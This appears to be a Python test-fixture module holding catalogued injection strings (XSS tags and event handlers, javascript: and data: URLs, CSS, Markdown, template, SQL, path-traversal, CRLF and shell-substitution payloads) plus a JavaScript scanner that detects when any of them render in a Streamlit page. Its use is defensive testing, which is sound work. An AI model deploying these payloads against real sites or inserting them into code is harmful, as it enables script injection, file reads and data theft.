"""Strings that try to become script, markup or layout, and what a browser shows when one has: the page's own JavaScript looks for it.

Whatever runs calls `pwned`; whatever is fetched comes from `HOST`, which does not exist; whatever is formatted is the word `MARK`, a skull,
or carries the class `MARK`. Strings are grouped by the reader that they are written for; several are short enough for a theme's 24 characters.
"""

import random

HOST = "injected.invalid"
MARK = "inj"

_SCRIPTS = (
    "<script>pwned(1)</script>",
    "<ScRiPt\n>pwned(2)</sCrIpT\t>",
    f'<script src="//{HOST}/a.js"></script>',
    f"<script type=module>import 'http://{HOST}/m.js'</script>",
    "</script><script>pwned(3)</script>",
    "<scr<script>ipt>pwned(4)</scr</script>ipt>",
    "</title></textarea></style><script>pwned(5)</script>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(6)>'>",
    "<!--><img src=x onerror=pwned(7)>-->",
    "<![CDATA[<img src=x onerror=pwned(8)>]]>",
)
_HANDLERS = (
    '<img src=x onerror="pwned(9)">',
    "<img src=x onerror='pwned(10)'>",
    "<img/src=x/onerror=pwned(11)>",
    "<img src=x onerror=pwned`12`>",
    '"><img src=x onerror=pwned(13)>',
    "'><img src=x onerror=pwned(14)>",
    '" onmouseover="pwned(15)" x="',
    "' autofocus tabindex=0 onfocus='pwned(16)",
    '" style="animation:x" onanimationstart="pwned(17)',
    "<body onload=pwned(18)>",
    "<input autofocus onfocus=pwned(19)>",
    "<details open ontoggle=pwned(20)><summary>inj</summary></details>",
    "<video><source onerror=pwned(21)></video>",
    "<audio src onloadstart=pwned(22)>",
    "<marquee onstart=pwned(23)>inj</marquee>",
    "</span></div><b onclick=pwned(24)>inj</b>",
)
_ELEMENTS = (
    "<svg onload=pwned(25)>",
    "<svg><script>pwned(26)</script></svg>",
    f"<svg><use href='http://{HOST}/s.svg#x'/></svg>",
    "<svg><a xlink:href='javascript:pwned(27)'><text y=9>inj</text></a></svg>",
    "<svg><animate onbegin=pwned(28) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned(29)&gt;'>",
    "<math href='javascript:pwned(30)'><mi>inj</mi></math>",
    f"<iframe src='http://{HOST}/f'></iframe>",
    "<iframe srcdoc='<script>parent.pwned(31)</script>'></iframe>",
    "<iframe src='javascript:parent.pwned(32)'></iframe>",
    f"<object data='http://{HOST}/o'></object>",
    f"<embed src='http://{HOST}/e'>",
    "<template><img src=x onerror=pwned(33)></template><b class=inj>inj</b>",
    f"<base href='http://{HOST}/'>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/r'>",
    f"<link rel=stylesheet href='http://{HOST}/c.css'>",
    f"<form action='http://{HOST}/p'><button class=inj>inj</button></form>",
    f"<p class=inj background=//{HOST}/b>inj</p>",
    "<h1>inj</h1><b>inj</b><i>inj</i>",
    "<b>inj</b>",
    "<plaintext>",
    "<xmp><img src=x onerror=pwned(34)></xmp>",
)
_ADDRESSES = (
    "javascript:pwned(35)",
    "JaVa\tScRiPt:pwned(36)//",
    "data:text/html,<script>parent.pwned(37)</script>",
    "<a href='javascript:pwned(38)'>inj</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg=='>inj</a>",
    f"http://{HOST}/seen",
    f"www.{HOST}",
    f"inj@{HOST}",
    f"//{HOST}/x",
)
_STYLES = (
    "</style><style>body{display:none}:root{--inj:1}</style>",
    "<style>@import 'http://injected.invalid/i.css';*{--inj:1;display:none}</style>",
    "}body{display:none}:root{--inj:1}",
    f"red;background:url(http://{HOST}/u)",
    '<div style="position:fixed;inset:0;z-index:99999;background:red" class=inj>inj</div>',
    "x' style='position:fixed;inset:0;font-size:9999px",
)
_MARKDOWN = (
    f"![inj](http://{HOST}/i.png)",
    f"![](//{HOST})",
    f"[inj](http://{HOST}/l)",
    "[inj](javascript:pwned(39))",
    f"<http://{HOST}/auto>",
    f"[inj]\n\n[inj]: http://{HOST}/ref 'x'",
    "**inj**",
    "_inj_ *inj* ~~inj~~ `inj`",
    "`inj`",
    "```\ninj\n```",
    "# inj",
    "inj\n===\n\n> inj\n\n- inj\n\n1. inj\n\n---\n\n    inj",
    "| inj | b |\n|---|---|\n| inj | c |",
    "- [x] inj",
    "$inj$",
    "$$\\frac{inj}{\\href{javascript:pwned(40)}{x}}$$",
    ":material/skull:",
    ":skull: :streamlit:",
    ":red[inj]",
    ":red-background[inj] :small[inj]",
    ":orange-badge[:material/skull: inj]",
    "inj[^1]\n\n[^1]: inj",
    "\\**inj\\** \\[inj](x)",
)
_PLOTLY = (
    f'<a href="http://{HOST}/p">inj</a>',
    '<a href="javascript:pwned(41)" target="_self">inj</a>',
    "<br><br><br><br><b>inj</b><br><i>inj</i>",
    "<sub>inj</sub><sup>inj</sup><em>inj</em>",
    "<span style='font-size:99px;color:red'>inj</span>",
    "%{customdata} %{x:.2f} %{fullData.name}<extra>inj</extra>",
    "$\\LaTeX{inj}$",
)
_ENTITIES = (
    "&lt;script&gt;pwned(42)&lt;/script&gt;",
    "&#60;img src=x onerror=pwned(43)&#62;",
    "&amp;lt;b&amp;gt; &nbsp;&zwj;&Tab;&NewLine; &#0; &#x202e;",
    "%3Cscript%3Epwned(44)%3C/script%3E",
    "\\u003cscript\\u003epwned(45)\\u003c/script\\u003e \\x3cb\\x3e",
    "＜script＞pwned(46)＜/script＞",
    "+ADw-script+AD4-pwned(47)+ADw-/script+AD4-",
)
_TEMPLATES = (
    "{{constructor.constructor('pwned(48)')()}}",
    "${pwned(49)} #{pwned(50)} <%= pwned(51) %>",
    "{0.__class__.__init__.__globals__} {inj!r:>9999} %(inj)s %n%s",
    "';pwned(52);//\";pwned(53);//`${pwned(54)}`",
    "]}';pwned(55)//",
    "__proto__",
    "'; DROP TABLE features; --",
    "1 OR 1=1 UNION SELECT '<b>inj</b>'",
    "../../../../etc/passwd",
    "..\\..\\con\\nul%00.html",
    "file:///etc/passwd",
    "a\r\nSet-Cookie: inj=1\r\n\r\n<script>pwned(56)</script>",
    "=HYPERLINK(\"http://injected.invalid/h\",\"inj\")",
    "$(id) `id` ;id| id && id",
    "a/b?c=d&e=f#g%20h",
)  # fmt: skip
_UNICODE = (
    "\u202e\u2066gnp.exe\u202d",
    "\u200b\u200d\u2060\ufeff\u00ad",
    "e" + "\u0301\u0316\u20dd" * 60,
    "\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49",
    "\x00\x01\x07\x08\x1b[31m\x7f\x9b",
    "\ufdfd\U00012031" * 4,
    "👩‍👩‍👧‍👦🏳️‍🌈\U000e0001\U000e0041\U0001f1e6",
    "\ufffe\uffff\U0010ffff",
    "\u2028\u2029\x85\x0b\x0c",
    "\n" * 30 + MARK,
    "\t" * 20,
)
LONG = (
    "x" * 10_000,
    "ش" * 1_500,
    "<b>" * 400 + "inj" + "</b>" * 400,
    "[" * 900 + "inj" + "](x)" * 300,
    "> " * 500 + "inj",
)
INJECTIONS = (
    *_SCRIPTS, *_HANDLERS, *_ELEMENTS, *_ADDRESSES, *_STYLES, *_MARKDOWN, *_PLOTLY, *_ENTITIES, *_TEMPLATES, *_UNICODE,
)  # fmt: skip
SURROGATES = ("\ud800", "inj\udfff<b>inj</b>")  # no UTF-8: only in JSON, as escapes


def short(most: int, strings=INJECTIONS, *, printable: bool = False) -> list[str]:
    """The strings of at most so many characters, without a line break if they are to be `printable`."""
    return [s for s in strings if len(s) <= most and s.strip() and (s.isprintable() or not printable)]


def groups(most: int, strings=INJECTIONS, *, between: str = " ") -> list[str]:
    """All strings in as few texts of at most `most` characters as do (a longer one alone): no comment or open tag stands before all others."""
    shuffled = list(strings)
    random.Random(7).shuffle(shuffled)
    found = [""]
    for string in shuffled:
        if found[-1] and len(found[-1]) + len(between) + len(string) > most:
            found.append("")
        found[-1] += (between if found[-1] else "") + string
    return found


# ---- in the browser ----------------------------------------------------------------------------------------------------

SCAN = """
() => {
  const host = "injected.invalid", found = [];
  const say = (what, node) => found.push(what + ": " + (node.outerHTML || "").slice(0, 160));
  const forbidden = /^(script|iframe|frame|object|embed|base|meta|link|template|marquee|plaintext|xmp|math|video|audio|noscript)$/;
  const formats = /^(b|strong|em|i|u|s|del|code|pre|a|h[1-6]|td|th|li|blockquote|mark|sub|sup|summary|p|button|tspan)$/;
  const active = /^\\s*(javascript|vbscript|data:text)/i;
  const addresses = ["href", "src", "xlink:href", "action", "formaction", "data", "srcdoc", "srcset", "poster", "background", "cite", "ping"];
  const walk = (root) => {
    for (const node of root.querySelectorAll("*")) {
      const name = node.localName;
      const own_template = name === "template" && /data-rac/.test(node.innerHTML);  // Streamlit's lists of choices keep one
      if (forbidden.test(name) && !own_template) say("element", node);
      for (const attribute of node.attributes) {
        if (attribute.name.startsWith("on")) say("handler", node);
        const value = attribute.value;
        const points = addresses.includes(attribute.name);
        if (points && (active.test(value.replace(/[\\x00-\\x20]/g, "")) || (value.split(/[?#]/)[0].includes(host)))) say("address", node);
        if (attribute.name === "style" && value.includes(host)) say("style", node);
      }
      if (node.classList.contains("inj") || node.classList.contains("katex")) say("markup", node);
      if (name === "style" && /injected|--inj/.test(node.textContent)) say("style", node);
      const own = node.textContent;
      if (own.length < 40 && own.trim() === "inj" && (formats.test(name) ? name !== "p" && (name !== "tspan" || node.getAttribute("style"))
        : /Colored|Badge|small/i.test(node.className) || (name === "span" && /color|font-size|background/.test(node.getAttribute("style")))))
        say("format", node);
      if (node.dataset.testid === "stIconMaterial" && own === "skull") say("icon", node);
      if (node.shadowRoot) walk(node.shadowRoot);
    }
  };
  walk(document.getElementById("root") || document.body);
  for (const node of document.querySelectorAll("base, meta[http-equiv=refresh], body ~ script, body ~ iframe, body ~ img, body ~ b")) say("document", node);
  if (/💀/u.test(document.body.innerText)) found.push("a skull");
  if (getComputedStyle(document.body).display === "none" || getComputedStyle(document.documentElement).getPropertyValue("--inj"))
    found.push("a style sheet is at work");
  return [...new Set(found)];
}
"""
"""Finds what no page of the app has by itself; to be called as a function. Looks into the shadow trees of components too."""
